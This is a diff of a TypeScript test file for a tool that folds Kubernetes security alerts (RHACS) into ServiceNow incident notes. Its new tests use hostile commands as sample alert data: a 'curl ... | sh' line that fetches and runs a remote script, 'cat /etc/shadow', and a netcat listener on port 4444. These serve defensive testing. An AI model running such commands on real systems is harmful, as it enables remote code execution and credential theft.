@@ -73,7 +73,7 @@ describe('a burst of one policy', () => {
         deliver(alertFor('app-6'))
         expect(storm().work_notes).toHaveLength(1)
         const note = storm().work_notes[0]
-        expect(note).toContain('3 alerts on 3 workloads')
+        expect(note).toContain('3 alerts absorbed since')
         for (const n of ['app-4', 'app-5', 'app-6']) expect(note).toContain(n)
         deliver(alertFor('app-7'))
         deliver(alertFor('app-8'))
@@ -82,10 +82,46 @@ describe('a burst of one policy', () => {
         deliver(alertFor('app-9'))
         expect(storm().work_notes).toHaveLength(2)
         const second = storm().work_notes[1]
-        expect(second).toContain('3 alerts on 3 workloads')
+        expect(second).toContain('3 alerts absorbed since')
         for (const n of ['app-7', 'app-8', 'app-9']) expect(second).toContain(n)
         expect(second).not.toContain('app-6')
         expect(storm().occurrences).toBe(1 + 6)
+    })
+})
+
+describe('storm notes say who did what', () => {
+    it('one line per absorbed alert: where, the user, the command; identical lines counted, the note within 4,000', () => {
+        resetInstance({ 'x_rhacs_snow.storm.policy_budget': '0' })
+        const exec = (deployment: string, user: string, command: string, i: number) => {
+            const body = JSON.parse(fixtureBody('01-exec-into-pod.json'))
+            body.alert.id = 'exec-' + i
+            body.alert.deployment.name = deployment
+            const attrs = body.alert.violations[0].keyValueAttrs.attrs
+            attrs.find((a: { key: string }) => a.key === 'Username').value = user
+            attrs.find((a: { key: string }) => a.key === 'commands').value = command
+            return JSON.stringify(body)
+        }
+        deliver(exec('opener', 'alice', '/bin/bash', 0))
+        deliver(exec('api', 'alice', '/bin/bash', 1))
+        deliver(exec('api', 'alice', '/bin/bash', 2))
+        deliver(exec('worker', 'mallory', 'curl http://x.example/p.sh | sh', 3))
+        for (let i = 0; i < 200; i++) deliver(exec('w-' + i, 'u' + i, 'cat /etc/shadow ' + 'x'.repeat(200), 4 + i))
+        fakeInstance.advance(MINUTE)
+        deliver(exec('last', 'bob', 'id', 999))
+        const storm = incidents().find((i) => i.storm_state === 'active')!
+        const note = storm.work_notes[0]
+        expect(note.length).toBeLessThanOrEqual(4000)
+        expect(note).toMatch(/^Storm control: 204 alerts absorbed since .* UTC \(where: who: what\):\n/)
+        expect(note).toContain('- local-cluster / gibson / Deployment / api: user alice: /bin/bash (2 alerts)')
+        expect(note).toContain('- local-cluster / gibson / Deployment / worker: user mallory: curl http://x.example/p.sh | sh')
+        expect(note).toMatch(/\n- … and \d+ more lines not shown \(field limit\)$/)
+    })
+
+    it('a process alert names the process UID and the command', () => {
+        resetInstance({ 'x_rhacs_snow.storm.policy_budget': '0' })
+        deliver(fixtureBody('04-runtime-process-netcat.json'))
+        const [row] = fakeInstance.rows('x_rhacs_snow_delivery')
+        expect(row.detail).toBe('Absorbed by storm control: local-cluster / payments / Deployment / payments-api: UID 1000680000: /usr/bin/nc -lvnp 4444')
     })
 })
 
@@ -101,7 +137,7 @@ describe('replays during a storm', () => {
         deliver(alertFor('app-5'))
         const storm = incidents().find((i) => i.storm_state === 'active')!
         // The note lists app-4 once and app-5 once: replays are not alerts.
-        expect(storm.work_notes[0]).toContain('2 alerts on 2 workloads')
+        expect(storm.work_notes[0]).toContain('2 alerts absorbed since')
         expect(storm.occurrences).toBe(3)
     })
 })
@@ -126,7 +162,7 @@ describe('global cap and recovery', () => {
         expect(storm.storm_state).toBe('ended')
         const final = storm.work_notes[storm.work_notes.length - 1]
         expect(final).toContain('Storm control ended')
-        expect(final).toContain('absorbed 4 alerts on 4 workloads')
+        expect(final).toContain('absorbed 4 alerts of 4 problems')
         // A later storm of the same policy opens a new storm Incident that references the old one.
         for (let i = 8; i < 12; i++) deliver(alertFor('app-' + i))
         const storms = incidents().filter((i) => i.short_description.startsWith('RHACS alert storm'))
@@ -143,7 +179,7 @@ describe('storm sweep job', () => {
         expect(runStormSweep()).toBe(1)
         const storm = incidents().find((i) => i.short_description.startsWith('RHACS alert storm'))!
         expect(storm.storm_state).toBe('ended')
-        expect(storm.work_notes[storm.work_notes.length - 1]).toContain('absorbed 3 alerts on 3 workloads')
+        expect(storm.work_notes[storm.work_notes.length - 1]).toContain('absorbed 3 alerts of 3 problems')
         expect(fakeInstance.logs.some((l) => l.message === 'RHACS storm sweep: ended 1 storm.')).toBe(true)
         // Nothing left to end; the next new problem gets its own Incident without a second final note.
         expect(runStormSweep()).toBe(0)
